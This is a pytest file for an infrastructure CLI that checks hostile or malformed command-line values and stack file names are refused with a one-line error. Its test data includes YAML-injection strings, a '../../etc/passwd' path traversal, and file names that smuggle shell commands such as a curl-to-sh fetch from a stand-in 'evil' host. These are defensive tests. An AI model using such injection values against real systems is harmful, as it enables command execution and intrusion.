"""Command lines of a careless user or an attacker: values are data in rendered output,
never YAML structure; a file option's error names the option and the file; 0 is a value, not
"unset"; a missing stack is reported as a missing stack; stack names from file names are checked
before they reach CI. Each refusal is one line, exit 2, no traceback."""

from __future__ import annotations

import json
import shutil

import pytest
import yaml

from infra.cli.main import main
from infra.config import ConfigError
from infra.offline import jobs
from tests.conftest import ROOT, plan_of


def _run(capsys, monkeypatch, *argv: str, cwd=ROOT) -> tuple[int, str, str]:
    monkeypatch.chdir(cwd)
    code = main(list(argv))
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err
    return code, captured.out, captured.err


@pytest.mark.parametrize(
    "image",
    [
        "x\n  evil: 1",
        "reg.io/x:1\nkind: Pod",
        "reg.io/x:1 # hidden",
        'reg.io/x:1"}',
        "{evil: 1}",
        "reg.io/x:" + "a" * 1000,
    ],
)
def test_an_image_that_would_be_yaml_structure_is_refused_naming_the_option(capsys, monkeypatch, image):
    code, out, err = _run(capsys, monkeypatch, "jobs", "render", "dev", "pytorch-ddp", "--image", image)
    assert code == 2 and out == ""
    assert err.startswith("error: --image: ") and "is not an image reference" in err and len(err.splitlines()) == 1, err


def test_a_template_value_is_data_even_past_the_image_check():
    """Even a value no option checks cannot become structure: filled in as data or refused."""
    text = (jobs.EXAMPLES_DIR / "pytorch-ddp.yaml").read_text()
    values = dict(
        name="n",
        namespace="ns",
        queue="q",
        priority_class="p",
        pool="pl",
        zone="z",
        gpus=1,
        workers=1,
        replicas=2,
        backoff_limit=3,
        total_gpus=1,
        min_replicas=1,
        max_replicas=1,
        image="reg.io/x:1",
        image_comment="# Image: reg.io/x:1",
        resume="resumes",
    )
    for hostile in ("q\nevil: 1", "q # comment", "q}", "[q]", "*alias", "{a: 1}", "q\n  - x"):
        try:
            (job,) = jobs.fill_template(text, {**values, "queue": hostile}, "examples/pytorch-ddp.yaml")
        except ConfigError as refused:
            assert refused.key == "--queue" and "would change the structure" in str(refused)
        else:  # filled in: then as exactly that text, and nothing else changed
            assert job["spec"]["runPolicy"]["schedulingPolicy"]["queue"] == hostile
            assert set(job["spec"]["runPolicy"]["schedulingPolicy"]) == {"queue", "priorityClass", "minAvailable"}


def test_the_rendered_job_holds_each_value_where_the_template_put_it():
    (config_map, job) = jobs.render("pytorch-ddp", plan_of("dev").config)
    assert job["spec"]["runPolicy"]["schedulingPolicy"]["queue"] == "ml"
    assert list(yaml.safe_load_all(jobs.to_yaml([config_map, job])))[1]["spec"]["runPolicy"]["schedulingPolicy"] == {
        "queue": "ml",
        "priorityClass": "batch-low",
        "minAvailable": 2,
    }


@pytest.mark.parametrize(
    "argv, key",
    [
        (("jobs", "render", "dev", "pytorch-ddp", "--workers", "0"), "--workers"),
        (("jobs", "render", "dev", "pytorch-ddp", "--workers", "-1"), "--workers"),
        (("healthcheck", "render", "dev", "l40s", "--nodes", "0"), "--nodes"),
        (("healthcheck", "render", "dev", "l40s", "--team", ""), "--team"),
    ],
)
def test_zero_is_a_value_not_unset(capsys, monkeypatch, argv, key):
    code, out, err = _run(capsys, monkeypatch, *argv)
    assert code == 2 and err.startswith(f"error: {key}: "), err


@pytest.fixture
def project(tmp_path):
    shutil.copy(ROOT / "Pulumi.yaml", tmp_path / "Pulumi.yaml")
    (tmp_path / "stacks").mkdir()
    shutil.copy(ROOT / "stacks" / "Pulumi.dev.yaml", tmp_path / "stacks" / "Pulumi.dev.yaml")
    (tmp_path / "policies" / "config").mkdir(parents=True)
    return tmp_path


@pytest.mark.parametrize(
    "content, says",
    [
        ("{not json", "is not JSON"),
        ("[1, 2]", "is a JSON list"),
        ("\xff\xfe", "is not UTF-8"),
        ("[" * 100_000, "nests too deeply"),
    ],
)
def test_a_policy_config_that_is_no_json_object_names_the_option_and_the_file(
    capsys, monkeypatch, project, content, says
):
    bad = project / "pack.json"
    bad.write_text(content, encoding="latin-1")
    code, _, err = _run(capsys, monkeypatch, "check", "dev", "--policy-config", str(bad), cwd=project)
    assert (
        code == 2 and err.startswith(f"error: --policy-config {bad}") and says in err and len(err.splitlines()) == 1
    ), err


def test_a_missing_policy_config_file_names_the_option(capsys, monkeypatch, project):
    code, _, err = _run(capsys, monkeypatch, "check", "dev", "--policy-config", str(project / "nope.json"), cwd=project)
    assert code == 2 and "--policy-config" in err and "nope.json" in err, err


@pytest.mark.parametrize(
    "content, says", [("{oops", "is not JSON"), ('{"regions": []}', 'has no "regions" object'), ("7", "is a JSON int")]
)
def test_a_price_file_that_is_no_price_file_names_the_option_and_the_file(capsys, monkeypatch, project, content, says):
    bad = project / "prices.json"
    bad.write_text(content)
    code, _, err = _run(capsys, monkeypatch, "cost", "dev", "--prices", str(bad), cwd=project)
    assert code == 2 and err.startswith(f"error: --prices {bad}") and says in err, err


def test_a_missing_stack_is_reported_as_a_missing_stack_not_a_missing_policy_file(capsys, monkeypatch, project):
    code, _, err = _run(capsys, monkeypatch, "check", "nosuchstack", cwd=project)
    assert code == 2 and "stacks/Pulumi.nosuchstack.yaml not found" in err and "policy" not in err, err


@pytest.mark.parametrize("stack", ["../../etc/passwd", "dev/../dev", ".hidden", "a\x00b"])
def test_a_stack_argument_that_is_a_path_is_refused(capsys, monkeypatch, project, stack):
    code, _, err = _run(capsys, monkeypatch, "plan", stack, cwd=project)
    assert code == 2 and "is not a stack name" in err, err


@pytest.mark.parametrize("file_name", ["Pulumi.x;curl evil|sh.yaml", "Pulumi.Prod.yaml", "Pulumi.$(id).yaml"])
def test_stack_names_derived_from_file_names_are_checked_before_they_reach_ci(capsys, monkeypatch, project, file_name):
    shutil.copy(project / "stacks" / "Pulumi.dev.yaml", project / "stacks" / file_name)
    code, out, err = _run(capsys, monkeypatch, "stacks", cwd=project)
    assert code == 2 and out == "" and "is not a stack name" in err and "rename the file" in err, err


def test_a_stack_file_ci_reads_that_is_no_yaml_is_one_line_and_fails_only_its_own_stack(capsys, monkeypatch, project):
    (project / "stacks" / "Pulumi.broken.yaml").write_text("config: [\n")
    code, out, err = _run(capsys, monkeypatch, "stacks", cwd=project)
    assert code == 0 and "stacks/Pulumi.broken.yaml:" in err and "YAML syntax" in err and len(err.splitlines()) == 1, (
        err
    )
    entries = {e["stack"]: e for e in json.loads(out)["include"]}
    assert "broken" in entries["broken"] and "broken" not in entries["dev"]
